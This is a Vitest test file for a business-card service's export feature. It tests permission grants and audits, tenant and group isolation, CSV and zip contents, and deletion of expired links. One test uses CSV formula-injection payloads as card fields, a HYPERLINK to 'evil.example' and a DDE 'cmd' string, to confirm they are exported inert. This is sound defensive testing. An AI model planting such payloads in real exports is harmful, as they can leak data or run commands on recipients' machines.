import { JobLeaseEntity, ManualClock, silentLogger } from '@kyodo/subgraph-kit';
import { DEMO, errorCodes, startStack, testDialects, type Stack } from '@kyodo/testkit';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deleteExpiredExports, EXPORT_SWEEP_LEASE, startCardsBackground } from '../src/card-background.js';
import { FILE_LINK_TTL_MS } from '../src/card-files.js';
import { parseCsv } from '../src/domain/csv.js';
import { imageStoreFor } from '../src/image-store.js';
import { cardsSubgraph } from '../src/index.js';
import { startFakePeers, type FakePeers } from './fake-peers.js';

const CREATE = `mutation($input: CreateCardInput!) { createCard(input: $input) { id } }`;
const EXPORT = `{ exportCards { cardCount csv } }`;
const GRANT = `mutation($input: CardExportPermissionInput!) { setCardExportPermission(input: $input) }`;
const CAN = `{ canExportCards }`;
const GROUP = '00000000-0000-4000-8000-0000000ee001';

describe.each(testDialects())('export (C5, C3) on %s', (dialect) => {
  let stack: Stack;
  let peers: FakePeers;
  const t: Record<string, string> = {};
  const insiderId = '00000000-0000-4000-8000-0000000ee011';
  beforeAll(async () => {
    stack = await startStack({ subgraphs: [cardsSubgraph], dialect });
    peers = await startFakePeers(stack);
    Object.assign(t, await stack.auth.demoTokens());
    t.insider = await stack.auth.tokenFor({ id: insiderId });
    peers.groupsByToken.set(t.insider, [GROUP]);
    peers.spaces.users.set(insiderId, { kind: 'MEMBER', tenantId: DEMO.tenant.id });
  });
  afterAll(async () => {
    await peers?.close();
    await stack?.close();
  });

  it('C3/C5: export is its own permission: refused until a tenant admin grants it, refused again once withdrawn; guests never', async () => {
    expect(errorCodes(await stack.client.request(EXPORT, {}, { token: t.member }))).toEqual(['FORBIDDEN']);
    expect((await stack.client.data<{ canExportCards: boolean }>(CAN, {}, { token: t.member })).canExportCards).toBe(false);
    expect(errorCodes(await stack.client.request(GRANT, { input: { userId: DEMO.member.id, allowed: true } }, { token: t.member }))).toEqual(['FORBIDDEN']);
    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: true } }, { token: t.admin });
    expect((await stack.client.data<{ canExportCards: boolean }>(CAN, {}, { token: t.member })).canExportCards).toBe(true);
    expect((await stack.client.data<{ exportCards: { cardCount: number } }>(EXPORT, {}, { token: t.member })).exportCards.cardCount).toBe(2);
    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: false } }, { token: t.admin });
    expect(errorCodes(await stack.client.request(EXPORT, {}, { token: t.member }))).toEqual(['FORBIDDEN']);
    await stack.client.data(GRANT, { input: { userId: DEMO.guest.id, allowed: true } }, { token: t.admin });
    expect(errorCodes(await stack.client.request(EXPORT, {}, { token: t.guest }))).toEqual(['FORBIDDEN']);
  });

  it('A1: each grant and withdrawal is audited (who, what, before, after); setting what is already set records nothing; read through the peer query by the tenant admin only', async () => {
    const READ = `{ cardsAuditRecords(first: 20) { actorId tenantId action subject before after } }`;
    const { cardsAuditRecords: entries } = await stack.client.data<{ cardsAuditRecords: Array<{ actorId: string; tenantId: string; action: string; subject: string; before: string; after: string }> }>(READ, {}, { token: t.admin });
    const member = entries.filter((e) => e.subject === `User:${DEMO.member.id}`).reverse();
    expect(member.map((e) => [e.actorId, e.tenantId, e.action, JSON.parse(e.before), JSON.parse(e.after)])).toEqual([
      [DEMO.admin.id, DEMO.tenant.id, 'cardExport.permission', { allowed: false }, { allowed: true }],
      [DEMO.admin.id, DEMO.tenant.id, 'cardExport.permission', { allowed: true }, { allowed: false }],
    ]);
    const count = entries.length;
    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: false } }, { token: t.admin });
    expect((await stack.client.data<{ cardsAuditRecords: unknown[] }>(READ, {}, { token: t.admin })).cardsAuditRecords).toHaveLength(count);
    expect(errorCodes(await stack.client.request(READ, {}, { token: t.member }))).toEqual(['FORBIDDEN']);
  });

  it("T1: a tenant admin cannot grant the export permission to another tenant's user: NOT_FOUND, as for an unknown id, and nothing is written", async () => {
    const FOREIGN_USER = '00000000-0000-4000-8000-00000000b011';
    peers.spaces.users.set(FOREIGN_USER, { kind: 'MEMBER', tenantId: '00000000-0000-4000-8000-00000000b001' });
    const foreign = await stack.client.request(GRANT, { input: { userId: FOREIGN_USER, allowed: true } }, { token: t.admin });
    const unknown = await stack.client.request(GRANT, { input: { userId: '00000000-0000-4000-8000-00000000dead', allowed: true } }, { token: t.admin });
    expect([errorCodes(foreign), errorCodes(unknown)]).toEqual([['NOT_FOUND'], ['NOT_FOUND']]);
    expect(foreign.errors?.[0]?.message).toBe(unknown.errors?.[0]?.message);
    const rows = await stack.handles.cards!.dataSource.query('SELECT userId FROM card_export_grants');
    expect((rows as Array<{ userId: string }>).map((r) => r.userId)).not.toContain(FOREIGN_USER);
  });

  it('C5: every field of every card the viewer may see, readable back as CSV; cards outside the viewer\'s groups are not in it (C3)', async () => {
    const hidden = (
      await stack.client.data<{ createCard: { id: string } }>(CREATE, { input: { name: '秘密 次郎', notes: 'a, "quoted"\nnote', visibleToGroupIds: [GROUP] } }, { token: t.insider })
    ).createCard.id;
    await stack.client.data(CREATE, { input: { name: '公開 三郎', company: 'Open, Inc.', phones: ['03-1111-2222', '090-3333-4444'], language: 'JA', exchangedOn: '2025-01-02' } }, { token: t.member });
    for (const userId of [DEMO.member.id, insiderId]) await stack.client.data(GRANT, { input: { userId, allowed: true } }, { token: t.admin });

    const asMember = (await stack.client.data<{ exportCards: { cardCount: number; csv: string } }>(EXPORT, {}, { token: t.member })).exportCards;
    expect(asMember.csv.startsWith('\ufeffid,name,nameReading,company')).toBe(true);
    const [header, ...rows] = parseCsv(asMember.csv);
    expect(rows).toHaveLength(asMember.cardCount);
    expect(rows.map((r) => r.fields[0])).not.toContain(hidden);
    const open = rows.find((r) => r.fields[1] === '公開 三郎')!.fields;
    const col = (name: string) => open[header!.fields.indexOf(name)];
    expect([col('company'), col('phones'), col('language'), col('exchangedOn'), col('ownerId')]).toEqual(['Open, Inc.', '03-1111-2222;090-3333-4444', 'ja', '2025-01-02', DEMO.member.id]);

    const asInsider = (await stack.client.data<{ exportCards: { cardCount: number; csv: string } }>(EXPORT, {}, { token: t.insider })).exportCards;
    expect(asInsider.cardCount).toBe(asMember.cardCount + 1);
    const secret = parseCsv(asInsider.csv).find((r) => r.fields[0] === hidden)!.fields;
    expect(secret).toContain('a, "quoted"\nnote');
    expect(secret).toContain(GROUP);
  });

  it('C5: a card whose name or company is a spreadsheet formula is exported inert (a leading single quote)', async () => {
    const name = '=HYPERLINK("http://evil.example/?x","x")';
    const company = '@SUM(1+1)*cmd|x!A0';
    const id = (await stack.client.data<{ createCard: { id: string } }>(CREATE, { input: { name, company, phones: ['+81-3-1234-5678'] } }, { token: t.member })).createCard.id;
    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: true } }, { token: t.admin });
    const csv = (await stack.client.data<{ exportCards: { csv: string } }>(EXPORT, {}, { token: t.member })).exportCards.csv;
    const [header, ...rows] = parseCsv(csv);
    const card = rows.find((r) => r.fields[0] === id)!.fields;
    const col = (column: string) => card[header!.fields.indexOf(column)];
    expect([col('name'), col('company'), col('phones')]).toEqual([`'${name}`, `'${company}`, "'+81-3-1234-5678"]);
    for (const r of rows) for (const cell of r.fields) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('C5/C3: the zip holds cards.csv and the images of visible cards only, downloaded from a signed link; only with the export permission', async () => {
    const SET = `mutation($input: SetCardImageInput!) { setCardImage(input: $input) { id } }`;
    const ZIP = `mutation { exportCardsZip { cardCount sizeBytes url } }`;
    const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('front of the open card')]);
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('back')]);
    const open = (await stack.client.data<{ createCard: { id: string } }>(CREATE, { input: { name: 'Zip Open' } }, { token: t.member })).createCard.id;
    const hidden = (await stack.client.data<{ createCard: { id: string } }>(CREATE, { input: { name: 'Zip Hidden', visibleToGroupIds: [GROUP] } }, { token: t.insider })).createCard.id;
    await stack.client.data(SET, { input: { cardId: open, side: 'FRONT', base64: jpeg.toString('base64') } }, { token: t.member });
    await stack.client.data(SET, { input: { cardId: open, side: 'BACK', base64: png.toString('base64') } }, { token: t.member });
    await stack.client.data(SET, { input: { cardId: hidden, side: 'FRONT', base64: jpeg.toString('base64') } }, { token: t.insider });

    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: false } }, { token: t.admin });
    expect(errorCodes(await stack.client.request(ZIP, {}, { token: t.member }))).toEqual(['FORBIDDEN']);
    expect(errorCodes(await stack.client.request(ZIP, {}, { token: t.guest }))).toEqual(['FORBIDDEN']);
    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: true } }, { token: t.admin });
    const file = (await stack.client.data<{ exportCardsZip: { cardCount: number; sizeBytes: number; url: string } }>(ZIP, {}, { token: t.member })).exportCardsZip;
    const response = await fetch(new URL(stack.subgraphUrls.cards!).origin + file.url);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/zip');
    const entries = unzipSync(new Uint8Array(await response.arrayBuffer()));
    expect(Buffer.from(entries[`images/${open}-front.jpg`]!).equals(jpeg)).toBe(true);
    expect(Buffer.from(entries[`images/${open}-back.png`]!).equals(png)).toBe(true);
    expect(Object.keys(entries).filter((name) => name.includes(hidden))).toEqual([]);
    const rows = parseCsv(strFromU8(entries['cards.csv']!)).slice(1);
    expect(rows).toHaveLength(file.cardCount);
    expect(rows.map((r) => r.fields[0])).toContain(open);
    expect(rows.map((r) => r.fields[0])).not.toContain(hidden);
  });
});

describe.each(testDialects())('export zips are deleted once their link expires (C5) on %s', (dialect) => {
  const ZIP = `mutation { exportCardsZip { url urlExpiresAt } }`;
  const clock = new ManualClock('2026-03-02T09:00:00Z');
  let stack: Stack;
  let peers: FakePeers;
  let member: string;
  beforeAll(async () => {
    stack = await startStack({ subgraphs: [cardsSubgraph], dialect, clock });
    peers = await startFakePeers(stack);
    const tokens = await stack.auth.demoTokens();
    member = tokens.member;
    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: true } }, { token: tokens.admin });
  });
  afterAll(async () => {
    await peers?.close();
    await stack?.close();
  });
  const exportZip = async () => (await stack.client.data<{ exportCardsZip: { url: string; urlExpiresAt: string } }>(ZIP, {}, { token: member })).exportCardsZip;
  const store = () => imageStoreFor({ dataDir: stack.dataDir });

  it('C5: a zip stays while its link is valid and the sweep deletes it once the link has expired', async () => {
    const file = await exportZip();
    expect(await store().list('exports/')).toHaveLength(1);
    clock.advance(FILE_LINK_TTL_MS - 1);
    expect(await deleteExpiredExports(store(), clock.now())).toBe(0);
    expect((await fetch(new URL(stack.subgraphUrls.cards!).origin + file.url)).status).toBe(200);
    clock.advance(1);
    expect(await deleteExpiredExports(store(), clock.now())).toBe(1);
    expect(await store().list('exports/')).toEqual([]);
    expect((await fetch(new URL(stack.subgraphUrls.cards!).origin + file.url)).status).toBe(410);
  });

  it('C5: the background sweep does it by itself, on the injected clock, and stops on close', async () => {
    await exportZip();
    const runtime = { dataSource: stack.handles.cards!.dataSource, clock, logger: silentLogger, deps: { databaseUrl: '', verifier: stack.auth.verifier, dataDir: stack.dataDir } };
    const stop = startCardsBackground(runtime, 10);
    try {
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(await store().list('exports/')).toHaveLength(1);
      clock.advance(FILE_LINK_TTL_MS);
      for (let i = 0; i < 100 && (await store().list('exports/')).length > 0; i++) await new Promise((resolve) => setTimeout(resolve, 10));
      expect(await store().list('exports/')).toEqual([]);
    } finally {
      await stop();
    }
  });

  it('C5 with replicas: the sweep runs under a lease: nothing is deleted here while another replica holds it; once its lease expires this replica sweeps', async () => {
    await exportZip();
    clock.advance(FILE_LINK_TTL_MS);
    const dataSource = stack.handles.cards!.dataSource;
    await dataSource.getRepository(JobLeaseEntity).insert({ jobKey: EXPORT_SWEEP_LEASE, owner: 'killed-replica', leaseUntil: clock.now().getTime() + 60_000 });
    const stop = startCardsBackground({ dataSource, clock, logger: silentLogger, deps: { databaseUrl: '', verifier: stack.auth.verifier, dataDir: stack.dataDir } }, 10);
    try {
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(await store().list('exports/')).toHaveLength(1);
      clock.advance(60_001);
      for (let i = 0; i < 100 && (await store().list('exports/')).length > 0; i++) await new Promise((resolve) => setTimeout(resolve, 10));
      expect(await store().list('exports/')).toEqual([]);
    } finally {
      await stop();
    }
    expect(await dataSource.getRepository(JobLeaseEntity).countBy({ jobKey: EXPORT_SWEEP_LEASE })).toBe(0);
  });
});
